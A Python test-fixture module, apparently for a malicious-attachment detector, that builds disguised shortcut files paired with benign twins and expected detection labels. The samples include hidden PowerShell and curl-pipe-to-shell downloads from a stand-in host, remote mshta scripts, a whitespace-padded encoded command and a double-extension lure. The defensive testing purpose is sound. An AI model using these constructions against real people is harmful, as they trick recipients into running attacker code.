"""Constructions in shortcuts of every kind."""

from __future__ import annotations

from functools import partial

from lure.attachment.builders.objects import STUB
from lure.attachment.builders.pdfs import pdf
from lure.attachment.builders.shortcuts import lnk
from lure.attachment.construction import Construction, row

_CMD, _WORD = "C:\\Windows\\System32\\cmd.exe", "C:\\Program Files\\Office\\WINWORD.EXE"

_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"

_NO_LNK = partial(pdf, text="Details")


def _url(target: str) -> bytes:
    return f"[InternetShortcut]\r\nURL={target}\r\n".encode()


def _desktop(command: str) -> bytes:
    keys = f"Type=Application\nName=Offer\nExec={command}\nIcon=x-office-document\n"
    return f"[Desktop Entry]\n{keys}".encode()


def _library(url: str) -> bytes:
    place = f"<simpleLocation><url>{url}</url></simpleLocation>"
    connector = f"<searchConnectorDescription>{place}</searchConnectorDescription>"
    return f"<?xml version='1.0'?><libraryDescription>{connector}</libraryDescription>".encode()


ROWS: tuple[Construction, ...] = (
    row(
        "lnk: PowerShell",
        "offer.lnk",
        partial(lnk, _POWERSHELL, "-w hidden -c iwr https://docs.example/a"),
        "lnk_file lnk_runs_shell",
        _NO_LNK,
        twin_file="offer.pdf",
    ),
    row(
        "lnk: command shell under a document's icon",
        "offer.pdf.lnk",
        partial(lnk, _CMD, "/c start a.pdf", "%ProgramFiles%\\Adobe\\AcroRd32.exe"),
        "lnk_file lnk_runs_shell file_double_extension",
        _NO_LNK,
        twin_file="offer.pdf",
    ),
    row(
        "lnk: mshta with an address",
        "offer.lnk",
        partial(lnk, "C:\\Windows\\System32\\mshta.exe", "https://docs.example/a.hta"),
        "lnk_runs_shell",
        partial(lnk, _WORD, "offer.docx"),
        ordinary="lnk_file",
    ),
    row(
        "lnk: rundll32",
        "offer.lnk",
        partial(lnk, "C:\\Windows\\System32\\rundll32.exe", "a.dll,Run"),
        "lnk_runs_shell",
        partial(lnk, "D:\\Offers\\offer.pdf"),
        ordinary="lnk_file",
    ),
    row(
        "lnk: shell by the environment",
        "offer.lnk",
        partial(lnk, environment="%ComSpec%\\..\\cmd.exe", arguments="/c echo"),
        "lnk_runs_shell",
        partial(lnk, environment="%USERPROFILE%\\offer.docx"),
        ordinary="lnk_file",
    ),
    row(
        "lnk: shell by a relative path",
        "offer.lnk",
        partial(lnk, relative="..\\..\\..\\Windows\\System32\\cmd.exe", arguments="/c echo"),
        "lnk_runs_shell",
        partial(lnk, relative=".\\offer.docx"),
        ordinary="lnk_file",
    ),
    row(
        "lnk: arguments out of sight",
        "offer.lnk",
        partial(
            lnk,
            "C:\\Windows\\explorer.exe",
            " " * 300 + "/c powershell -enc " + "QQBB" * 20,
            shown=7,
        ),
        "lnk_runs_shell",
        partial(lnk, "C:\\Windows\\explorer.exe"),
        ordinary="lnk_file",
    ),
    row(
        "lnk: curl",
        "offer.lnk",
        partial(lnk, "C:\\Windows\\System32\\curl.exe", "-o a https://docs.example/a"),
        "lnk_runs_shell",
        partial(lnk, "C:\\Users\\a\\b.txt"),
        ordinary="lnk_file",
    ),
    row(
        "lnk: forfiles",
        "offer.lnk",
        partial(lnk, "C:\\Windows\\System32\\forfiles.exe", "/c calc"),
        "lnk_runs_shell",
        partial(lnk, _WORD),
        ordinary="lnk_file",
    ),
    row(
        "lnk: program on a share",
        "offer.lnk",
        partial(lnk, "\\\\files.example\\s\\offer.exe"),
        "lnk_file external_link",
        partial(lnk, _WORD),
        ordinary="lnk_file",
    ),
    row(
        "lnk: file appended",
        "offer.lnk",
        partial(lnk, _CMD, "/c more +1 offer.lnk", appended=STUB),
        "lnk_runs_shell",
        partial(lnk, _WORD),
        ordinary="lnk_file",
    ),
    row(
        "url: program on a share",
        "offer.url",
        partial(_url, "file://files.example/s/offer.exe"),
        "lnk_file",
        partial(_url, "https://careers.example/jobs"),
    ),
    row(
        "url: script on a share",
        "offer.url",
        partial(_url, "\\\\files.example@80\\s\\offer.js"),
        "lnk_file",
        partial(_url, "https://careers.example/"),
    ),
    row(
        "url: program on a site",
        "offer.url",
        partial(_url, "https://docs.example/offer.hta"),
        "lnk_file",
        partial(_url, "https://careers.example/offer.html"),
    ),
    row(
        "desktop: shell command",
        "offer.desktop",
        partial(_desktop, "sh -c 'curl https://docs.example/a | sh'"),
        "lnk_file lnk_runs_shell",
        partial(_desktop, "libreoffice offer.odt"),
        ordinary="lnk_file",
    ),
    row(
        "library of another machine",
        "offers.library-ms",
        partial(_library, "\\\\files.example\\s"),
        "lnk_file",
        partial(_library, "knownfolder:{FDD39AD0}"),
    ),
    row(
        "library over WebDAV",
        "offers.library-ms",
        partial(_library, "https://files.example/DavWWWRoot"),
        "lnk_file",
        partial(_library, "C:\\Users\\a\\Documents"),
    ),
    row(
        "settings shortcut",
        "offer.settingcontent-ms",
        lambda: (
            b"<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c echo</DeepLink></PCSettings>"
        ),
        "lnk_runs_shell",
        lambda: b"<PCSettings><DeepLink></DeepLink></PCSettings>",
    ),
)
